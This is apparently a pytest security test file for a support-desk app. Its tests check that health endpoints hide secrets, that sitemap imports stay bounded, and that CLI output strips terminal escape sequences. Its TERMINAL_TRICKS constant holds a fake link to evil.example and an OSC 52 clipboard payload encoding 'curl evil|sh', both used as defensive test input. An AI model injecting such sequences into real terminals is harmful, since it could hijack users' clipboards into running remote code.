"""Security review of the day's changes: what unauthenticated callers and hostile mail or sites can reach."""
from __future__ import annotations

from .conftest import deliver, make_email
from .test_ops_review import read_only, served


# -- /readyz and /healthz answer anyone on the public bind (Pub/Sub and the add-on need it public) ----------

SECRET_TEXT = "invalid_grant: Bad Request', {'error': 'invalid_grant', 'refresh_token': '1//0gSECRET"


def failed_sync(feed):
    try:
        feed.sync()
    except Exception:
        pass


def test_readyz_tells_the_kind_of_failure_but_no_error_text_paths_or_token_answers(tmp_path, monkeypatch):
    from google.auth.exceptions import RefreshError

    local, feed, client, clock = served(tmp_path)
    feed.sync()
    deliver(local.gmail(), make_email())

    def refused(uri, *args, **kwargs):  # google-auth's answer when the token endpoint refuses
        raise RefreshError(SECRET_TEXT)

    monkeypatch.setattr(local.http, "request", refused)
    failed_sync(feed)
    for path in ("/readyz", "/healthz"):
        answer = client.get(path)
        problem = answer.json["sync"]["problem"]
        assert "RefreshError" in problem, problem  # the kind of failure still helps the one on call
        assert "SECRET" not in answer.get_data(as_text=True) and "invalid_grant" not in problem
    monkeypatch.undo()

    read_only(monkeypatch)  # the state folder's path is no business of an unauthenticated caller
    failed_sync(feed)
    answer = client.get("/readyz")
    assert answer.status_code == 503 and "state_dir" in answer.json["sync"]["problem"]
    assert str(tmp_path) not in answer.get_data(as_text=True)


def test_readyz_names_no_thread_nor_what_failed_in_it(tmp_path):
    from plugin_host import hookimpl

    class Leaky:
        @hookimpl
        def on_ticket_opened(self, ticket, actions, settings, now):
            raise ValueError(f"cannot parse {ticket.customer.email} {ticket.subject}")

    local, feed, client, clock = served(tmp_path)
    feed.sync()
    feed.host.pm.register(Leaky(), name="leaky")
    ref = deliver(local.gmail(), make_email(sender="Jane <jane@victim.example>", subject="Password reset 9876"))
    failed_sync(feed)
    answer = client.get("/readyz")
    assert answer.status_code == 503 and "1 thread(s) failed" in answer.json["sync"]["problem"]
    body = answer.get_data(as_text=True)
    assert "jane@victim.example" not in body and "9876" not in body and ref["threadId"] not in body


# -- help-centre import: a sitemap index that lists itself, or indexes without end -------------------------

def test_a_sitemap_index_that_lists_itself_and_fans_out_is_fetched_a_bounded_number_of_times(tmp_path):
    import re

    import responses

    from plugins.kb_suggest.helpcentre import MAX_SITEMAPS, import_sitemap

    sitemap = "https://help.example.com/sitemap.xml"
    ns = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'

    def fan_out(request):  # every sitemap is an index of itself and 150 new ones
        base = request.url.rsplit(".xml", 1)[0]
        locs = [request.url] + [f"{base}-{n}.xml" for n in range(150)]
        body = f'<?xml version="1.0"?><sitemapindex {ns}>' + "".join(
            f"<sitemap><loc>{u}</loc></sitemap>" for u in locs) + "</sitemapindex>"
        return 200, {}, body

    with responses.RequestsMock() as mock:
        mock.add_callback("GET", re.compile(r"https://help\.example\.com/sitemap.*\.xml"), callback=fan_out)
        written, failures = import_sitemap(sitemap, tmp_path)
        urls = [c.request.url for c in mock.calls]
    assert written == 0 and urls.count(sitemap) == 1  # each sitemap once, however often it is listed
    assert len(urls) <= MAX_SITEMAPS
    assert any("sitemaps" in f for f in failures)  # the admin learns that some were left out


# -- the admin's terminal: customers' words and imported titles printed by `labeldesk kb …` -----------------

TERMINAL_TRICKS = "\x1b]8;;https://evil.example/\x07Click here\x1b]8;;\x07 \x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J"


def test_kb_gaps_prints_no_terminal_control_sequences_from_a_customers_mail(tmp_path, monkeypatch):
    from types import SimpleNamespace

    import plugin_host.runtime as runtime
    from tests.test_kb import kb_host
    from tests.test_kb_admin import kb_cli

    _, host, _ = kb_host(tmp_path)
    question = f"Do you ship to Iceland? {TERMINAL_TRICKS}\nFAKE 2027-01-01 ERROR line"
    tickets = [SimpleNamespace(question=question, language="en")] * 2
    monkeypatch.setattr(runtime, "host_from_cli", lambda path=None: host)
    monkeypatch.setattr(host, "tickets_since", lambda days, limit, progress=None: (tickets, False))
    result = kb_cli("gaps", "--since", "7d")
    assert result.exit_code == 0, result.output
    assert "Do you ship to Iceland?" in result.stdout and "Click here" in result.stdout
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert len(result.stdout.strip().splitlines()) == 1  # one group, one line: no line of the customer's own


def test_kb_search_and_import_print_no_terminal_control_sequences_from_a_help_centre(tmp_path):
    import responses

    from tests.test_kb_admin import kb_cli

    sitemap = "https://help.example.com/sitemap.xml"
    page = "https://help.example.com/refunds"
    broken = f"https://help.example.com/x{TERMINAL_TRICKS.replace(' ', '')}"
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        mock.add("GET", sitemap, body=f"{page}\n{broken}\n")
        mock.add("GET", page, body=f"<main><h1>Refunds {TERMINAL_TRICKS}</h1><p>Refunds take five days to reach "
                                   "your card.</p></main>")
        mock.add("GET", broken, status=404)
        imported = kb_cli("import", "--sitemap", sitemap, "--out", str(tmp_path / "kb"))
        fetched = [c.request.url for c in mock.calls]
    assert imported.exit_code == 0, imported.output
    assert "1 article written" in imported.stdout and not any("evil" in u for u in fetched)
    assert "\x1b" not in (tmp_path / "kb" / "refunds.md").read_text()
    assert "\x1b" not in imported.stdout + imported.stderr and "\x07" not in imported.stdout + imported.stderr
    config = tmp_path / "labeldesk.toml"
    config.write_text(f'[mailbox]\naddress = "support@example.com"\n[host]\nstate_dir = "{tmp_path / "state"}"\n'
                      f'[plugins.kb_suggest]\narticles = "{tmp_path / "kb"}"\nsemantic = "off"\n', encoding="utf-8")
    found = kb_cli("search", "--config", str(config), "how long do refunds take")
    assert found.exit_code == 0, found.output + found.stderr
    assert "Refunds" in found.stdout and "\x1b" not in found.stdout and "\x07" not in found.stdout
